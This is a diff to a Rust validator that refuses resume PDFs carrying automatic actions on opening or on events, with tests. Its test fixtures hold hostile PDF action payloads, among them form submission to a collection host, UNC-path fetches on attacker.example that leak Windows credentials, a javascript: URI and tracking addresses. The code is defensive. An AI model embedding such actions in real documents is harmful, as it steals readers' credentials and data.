@@ -6,8 +6,11 @@
 //!
 //! A PDF is refused when it is encrypted (the office could not read it, nor could we check
 //! it), damaged or cut short, longer than [`MAX_PDF_PAGES`] pages, or when it carries anything
-//! active: JavaScript, launch actions, embedded files or file attachments, or forms
-//! (AcroForm, XFA). These are how PDFs attack a reader; a resume needs none of them.
+//! active: JavaScript, launch actions, embedded files or file attachments, forms (AcroForm,
+//! XFA), or an action run on opening or on some event (`/OpenAction`, `/AA`) that is not a
+//! plain move to a page: a form sent somewhere, a file opened from another machine (a UNC path
+//! hands a Windows reader's credentials to that machine), data imported, a web address
+//! opened. These are how PDFs attack a reader; a resume needs none of them.
 //!
 //! The work is bounded before the document is parsed: the upload limit bounds the bytes, the
 //! page count is read from the page tree's root (`/Count`, without walking the tree), every
@@ -71,6 +74,8 @@ pub enum PdfRefusal {
     EmbeddedFiles,
     #[error("This PDF contains a fillable form, which is not accepted. Please save it again as a plain PDF, for example with \"Print to PDF\".")]
     Form,
+    #[error("This PDF does something by itself when it is opened (such as sending data, opening a web address or another file), which is not accepted. Please save it again as a plain PDF, for example with \"Print to PDF\".")]
+    AutomaticAction,
 }
 
 /// Why a resume was refused: as an image (the image check's words) or as a PDF.
@@ -167,7 +172,7 @@ pub fn check_pdf(bytes: &[u8]) -> Result<(), PdfRefusal> {
     if pages > MAX_PDF_PAGES as usize {
         return Err(PdfRefusal::TooManyPages);
     }
-    let mut found = Found::default();
+    let mut found = Found::new(&document);
     found.object(&Object::Dictionary(document.trailer.clone()), 0);
     for object in document.objects.values() {
         found.object(object, 0);
@@ -230,19 +235,44 @@ fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
 
 /// What the scan of every object found (names as the parser decoded them, so `/J#53` is
 /// `/JS`).
-#[derive(Debug, Default)]
-struct Found {
+struct Found<'a> {
+    /// Where references in an `/OpenAction` are looked up.
+    document: &'a Document,
     javascript: bool,
     launch: bool,
     embedded: bool,
     form: bool,
+    automatic: bool,
 }
 
 /// Deeper than this, an object is not walked further (the parser itself stops nesting at
 /// 100).
 const MAX_DEPTH: usize = 128;
 
-impl Found {
+impl<'a> Found<'a> {
+    fn new(document: &'a Document) -> Found<'a> {
+        Found {
+            document,
+            javascript: false,
+            launch: false,
+            embedded: false,
+            form: false,
+            automatic: false,
+        }
+    }
+
+    /// A dictionary's key, with its value: an `/OpenAction` must be a plain view destination,
+    /// and any `/AA` (actions on events: opening a page, focusing a field...) is refused, as
+    /// no resume needs one.
+    fn key(&mut self, key: &[u8], value: &Object) {
+        self.name(key);
+        match key {
+            b"AA" => self.automatic = true,
+            b"OpenAction" if !is_view_destination(self.document, value) => self.automatic = true,
+            _ => {}
+        }
+    }
+
     fn name(&mut self, name: &[u8]) {
         match name {
             b"JS" | b"JavaScript" => self.javascript = true,
@@ -266,13 +296,13 @@ impl Found {
             }
             Object::Dictionary(dict) => {
                 for (key, value) in dict.iter() {
-                    self.name(key);
+                    self.key(key, value);
                     self.object(value, depth + 1);
                 }
             }
             Object::Stream(stream) => {
                 for (key, value) in stream.dict.iter() {
-                    self.name(key);
+                    self.key(key, value);
                     self.object(value, depth + 1);
                 }
             }
@@ -289,10 +319,70 @@ impl Found {
             Err(PdfRefusal::EmbeddedFiles)
         } else if self.form {
             Err(PdfRefusal::Form)
+        } else if self.automatic {
+            Err(PdfRefusal::AutomaticAction)
         } else {
             Ok(())
         }
     }
+}
+
+/// The fits a view destination may ask for (`[page /XYZ left top zoom]`, `[page /Fit]`...).
+const FITS: &[&[u8]] = &[
+    b"XYZ", b"Fit", b"FitH", b"FitV", b"FitR", b"FitB", b"FitBH", b"FitBV",
+];
+
+/// Whether an `/OpenAction` only shows a page: a destination array (a page and a fit), or a
+/// `GoTo` action to one with no further action chained (`/Next`). Anything else (a form
+/// sent, a file or address opened, data imported, a script) is an action on opening.
+fn is_view_destination(document: &Document, value: &Object) -> bool {
+    match resolved(document, value) {
+        Some(Object::Array(items)) => is_destination_array(document, items),
+        Some(Object::Dictionary(action)) => {
+            let go_to = action
+                .get(b"S")
+                .ok()
+                .and_then(|s| resolved(document, s))
+                .is_some_and(|s| matches!(s, Object::Name(name) if name == b"GoTo"));
+            let destination = action
+                .get(b"D")
+                .ok()
+                .and_then(|d| resolved(document, d))
+                .is_some_and(|d| match d {
+                    Object::Array(items) => is_destination_array(document, items),
+                    // A named destination, looked up in the document's own names.
+                    Object::Name(_) | Object::String(..) => true,
+                    _ => false,
+                });
+            go_to && destination && !action.has(b"Next")
+        }
+        _ => false,
+    }
+}
+
+/// `[page /Fit...]`: a page (a reference or, in a remote destination, a number) and a fit.
+fn is_destination_array(document: &Document, items: &[Object]) -> bool {
+    let page = matches!(
+        items.first(),
+        Some(Object::Reference(_) | Object::Integer(_))
+    );
+    let fit = items
+        .get(1)
+        .and_then(|fit| resolved(document, fit))
+        .is_some_and(|fit| matches!(fit, Object::Name(name) if FITS.contains(&name.as_slice())));
+    page && fit
+}
+
+/// `object`, or what its reference points to (a few references deep at most).
+fn resolved<'a>(document: &'a Document, object: &'a Object) -> Option<&'a Object> {
+    let mut object = object;
+    for _ in 0..8 {
+        match object {
+            Object::Reference(id) => object = document.get_object(*id).ok()?,
+            _ => return Some(object),
+        }
+    }
+    None
 }
 
 #[cfg(test)]
@@ -450,6 +540,105 @@ mod tests {
                 Err(ResumeRefusal::Pdf(expected)),
                 "{case} through the resume check"
             );
+        }
+    }
+
+    /// What a PDF may do by itself: a form sent, a file fetched from another machine (a UNC
+    /// path hands a Windows reader's credentials to it), data imported, a script address,
+    /// actions on events. Each is refused with its own message.
+    #[test]
+    fn actions_on_opening_or_on_events_are_refused() {
+        let cases: Vec<(&str, Vec<u8>)> = vec![
+            (
+                "SubmitForm",
+                one_page(
+                    "/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://collect.example/cv) >> >>",
+                    "",
+                    &[],
+                ),
+            ),
+            (
+                "GoToR to a UNC path",
+                one_page(
+                    r"/OpenAction << /S /GoToR /F (\\\\attacker.example\\share\\cv.pdf) /D [0 /Fit] >>",
+                    "",
+                    &[],
+                ),
+            ),
+            (
+                "ImportData",
+                one_page(
+                    r"/OpenAction << /S /ImportData /F (\\\\attacker.example\\share\\x.fdf) >>",
+                    "",
+                    &[],
+                ),
+            ),
+            (
+                "javascript: URI",
+                one_page("/OpenAction << /S /URI /URI (javascript:app.alert(1)) >>", "", &[]),
+            ),
+            (
+                "web address on opening",
+                one_page("/OpenAction << /S /URI /URI (https://track.example/) >>", "", &[]),
+            ),
+            (
+                "SubmitForm behind a reference",
+                one_page(
+                    "/OpenAction 5 0 R",
+                    "",
+                    &["<< /S /SubmitForm /F (https://collect.example/) >>"],
+                ),
+            ),
+            (
+                "a GoTo that chains another action",
+                one_page(
+                    "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://track.example/) >> >>",
+                    "",
+                    &[],
+                ),
+            ),
+            (
+                "a destination that is no page and fit",
+                one_page("/OpenAction [(https://track.example/)]", "", &[]),
+            ),
+            (
+                "catalogue actions (/AA)",
+                one_page(
+                    "/AA << /WC << /S /URI /URI (https://track.example/) >> >>",
+                    "",
+                    &[],
+                ),
+            ),
+            (
+                "page open action (/AA)",
+                one_page(
+                    "",
+                    "/AA << /O << /S /GoToR /F (\\\\\\\\host\\\\c) /D [0 /Fit] >> >>",
+                    &[],
+                ),
+            ),
+        ];
+        for (case, sent) in cases {
+            assert_eq!(check_pdf(&sent), Err(PdfRefusal::AutomaticAction), "{case}");
+            assert_eq!(
+                check(&sent).map(|_| ()).map_err(|why| why.to_string()),
+                Err("This PDF does something by itself when it is opened (such as sending data, opening a web address or another file), which is not accepted. Please save it again as a plain PDF, for example with \"Print to PDF\".".to_owned()),
+                "{case}: the file field's message"
+            );
+        }
+    }
+
+    #[test]
+    fn an_open_action_that_only_shows_a_page_is_accepted() {
+        for catalog in [
+            "/OpenAction [3 0 R /Fit]",
+            "/OpenAction [3 0 R /XYZ null null 0]",
+            "/OpenAction << /S /GoTo /D [3 0 R /FitH 792] >>",
+            "/OpenAction << /Type /Action /S /GoTo /D (first-page) >>",
+            "/OpenAction 5 0 R",
+        ] {
+            let sent = one_page(catalog, "", &["[3 0 R /FitB]"]);
+            assert_eq!(check_pdf(&sent), Ok(()), "{catalog}");
         }
     }
 
